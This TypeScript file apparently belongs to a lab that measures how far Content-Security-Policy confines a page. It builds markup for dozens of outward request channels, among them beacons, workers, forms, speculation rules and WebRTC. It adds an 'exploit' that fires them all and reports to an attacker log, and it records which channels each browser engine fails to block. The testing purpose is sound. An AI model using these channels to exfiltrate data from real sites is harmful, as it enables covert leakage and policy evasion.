import type { EngineId } from '../origins/engines.ts';

/** A host outside the lab, as a page can reach it. */
export interface OutsideAddress {
  /** `http://host:port`, where a request is heard by its path. */
  readonly origin: string;
  /** `http://host:port`, where a connection is noticed even without a request on it. */
  readonly connection: string;
  /** The UDP port on 127.0.0.1 that a peer connection contacts to learn its own address. */
  readonly udpPort: number;
}

/** Markup by which a page reaches an address without navigating itself. */
type Kind = (url: string, outside: OutsideAddress) => string;

const run = (script: string) => `<script>try { ${script} } catch {}</script>`;
const frameOf = (document: string) => `<iframe srcdoc="${document.replaceAll('"', '&quot;')}" title="frame"></iframe>`;
const quietly = (call: string) => run(`${call}.catch(() => {})`);

/**
 * Everything by which a page can load, frame, submit or connect to another host without navigating itself, by kind
 * (https://www.w3.org/TR/CSP3/#directives-fetch, #form-action). Each requests a path with the name of its kind.
 */
export const outwardKinds = {
  image: (url) => `<img src="${url}" alt="">`,
  'picture-source': (url) => `<picture><source srcset="${url}"><img alt=""></picture>`,
  'svg-image': (url) => `<svg width="9" height="9"><image href="${url}" width="9" height="9"/></svg>`,
  'image-button': (url) => `<input type="image" src="${url}" alt="">`,
  'style-image': (url) => `<div style="width:9px;height:9px;background:url('${url}')"></div>`,
  stylesheet: (url) => `<link rel="stylesheet" href="${url}">`,
  'style-import': (url) => `<style>@import '${url}';</style>`,
  font: (url) => `<style>@font-face{font-family:f;src:url('${url}')}p{font-family:f}</style><p>text</p>`,
  script: (url) => `<script src="${url}"></script>`,
  'module-import': (url) => quietly(`import('${url}')`),
  'module-preload': (url) => `<link rel="modulepreload" href="${url}">`,
  'worker-import': (url) => run(`new Worker(URL.createObjectURL(new Blob(["importScripts('${url}')"])))`),
  'worker-fetch': (url) =>
    run(`new Worker(URL.createObjectURL(new Blob(["fetch('${url}', { mode: 'no-cors' }).catch(() => {})"])))`),
  audio: (url) => `<audio src="${url}" preload="auto"></audio>`,
  video: (url) => `<video src="${url}" preload="auto"></video>`,
  poster: (url) => `<video poster="${url}"></video>`,
  track: (url) =>
    `<video src="data:video/mp4,x" crossorigin="anonymous"><track kind="captions" src="${url}" default></video>`,
  object: (url) => `<object data="${url}"></object>`,
  embed: (url) => `<embed src="${url}">`,
  frame: (url) => `<iframe src="${url}" title="frame"></iframe>`,
  'frame-in-frame': (url) => frameOf(`<iframe src='${url}'></iframe>`),
  'image-in-frame': (url) => frameOf(`<img src='${url}'>`),
  'image-in-blob': (url) =>
    run(
      `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["<img src='${url}'>"], { type: 'text/html' })); document.body.append(f)`,
    ),
  'image-in-data': (url) => `<iframe src="data:text/html,<img src='${url}'>" title="frame"></iframe>`,
  'image-in-javascript': (url) => `<iframe src="javascript:'<img src=${url}>'" title="frame"></iframe>`,
  'refresh-in-frame': (url) => frameOf(`<meta http-equiv='refresh' content='0;url=${url}'>`),
  'frame-location': (url) =>
    run(`const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = '${url}'`),
  'link-into-frame': (url) =>
    `<iframe name="linked" title="linked"></iframe><a id="l" href="${url}" target="linked">go</a>${run('l.click()')}`,
  'form-into-frame': (url) =>
    `<iframe name="into" title="into"></iframe><form id="f" action="${url}" method="post" target="into"></form>${run('f.submit()')}`,
  'form-in-frame': (url) =>
    frameOf(`<form id='g' action='${url}' method='post'></form><script>document.forms[0].submit()</script>`),
  fetch: (url) => quietly(`fetch('${url}', { mode: 'no-cors' })`),
  'fetch-keepalive': (url) => quietly(`fetch('${url}', { mode: 'no-cors', method: 'POST', keepalive: true })`),
  xhr: (url) => run(`const x = new XMLHttpRequest(); x.open('GET', '${url}'); x.send()`),
  beacon: (url) => run(`navigator.sendBeacon('${url}', 'x')`),
  ping: (url) => `<a id="p" href="#here" ping="${url}">here</a>${run('p.click()')}`,
  'event-source': (url) => run(`new EventSource('${url}')`),
  'web-socket': (url) => run(`new WebSocket('${url.replace('http', 'ws')}')`),
  preload: (url) => `<link rel="preload" as="image" href="${url}">`,
  prefetch: (url) => `<link rel="prefetch" href="${url}">`,
  'speculation-prefetch': (url) => speculation('prefetch', url),
  'speculation-prerender': (url) => speculation('prerender', url),
  preconnect: (_url, { connection }) => `<link rel="preconnect" href="${connection}">`,
  'peer-connection': (_url, { udpPort }) =>
    run(
      `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] }); c.createDataChannel('d'); c.createOffer().then((o) => c.setLocalDescription(o)).catch(() => {})`,
    ),
} as const satisfies Readonly<Record<string, Kind>>;

function speculation(action: 'prefetch' | 'prerender', url: string): string {
  const rules = JSON.stringify({ [action]: [{ source: 'list', urls: [url], eagerness: 'immediate' }] });
  return `<script type="speculationrules">${rules}</script>`;
}

export type OutwardKind = keyof typeof outwardKinds;
export const outwardKindIds = Object.keys(outwardKinds) as OutwardKind[];

/** A document that tries the kinds in turn, each at a path with its name. */
export function outwardDocument(outside: OutsideAddress, kinds: readonly OutwardKind[] = outwardKindIds): string {
  const tried = kinds.map((kind) => outwardKinds[kind](`${outside.origin}/${kind}`, outside));
  return tried.join('\n');
}

/** Grounds on which an exploit runs, each by an attack of the catalogue. */
export const confinedGrounds = [
  { attack: 'csrf-image', where: 'a framed page of the attacker’s' },
  { attack: 'csrf-get', where: 'a top-level page of the attacker’s' },
  { attack: 'riding-by-script', where: 'a comment in the bank' },
  { attack: 'csrf-sibling', where: 'a page of the sibling' },
  { attack: 'tamper-plain', where: 'the customer’s console' },
  { attack: 'path-read', where: 'a page under another path' },
  { attack: 'port-receive', where: 'an app on another port' },
] as const;

/** The entry in the attacker's log by which an exploit says that it has tried everything. */
export const lastWords = 'It ran.';

/** An exploit that tries every kind. Without a policy all of them are on their way by the load event. */
export function outwardExploit(outside: OutsideAddress): string {
  const say = `fetch('{{log}}', { method: 'POST', mode: 'no-cors', body: '${lastWords}' })`;
  return `${outwardDocument(outside)}\n<script>addEventListener('load', () => ${say})</script>`;
}

/** Kinds that no Content-Security-Policy blocks, as measured by `npm run engines -- --confined`. */
const notHeldBack = [
  { kinds: ['preconnect'], engines: ['chromium', 'firefox', 'webkitgtk'] },
  { kinds: ['speculation-prefetch', 'speculation-prerender'], engines: ['chromium'] },
  { kinds: ['peer-connection'], engines: ['chromium'] },
] as const satisfies readonly { readonly kinds: readonly OutwardKind[]; readonly engines: readonly EngineId[] }[];

/** The kinds that an engine is known not to block. */
export function notHeldBackIn(engine: EngineId): OutwardKind[] {
  return notHeldBack.flatMap(({ kinds, engines }) => (engines.some((id) => id === engine) ? kinds : []));
}
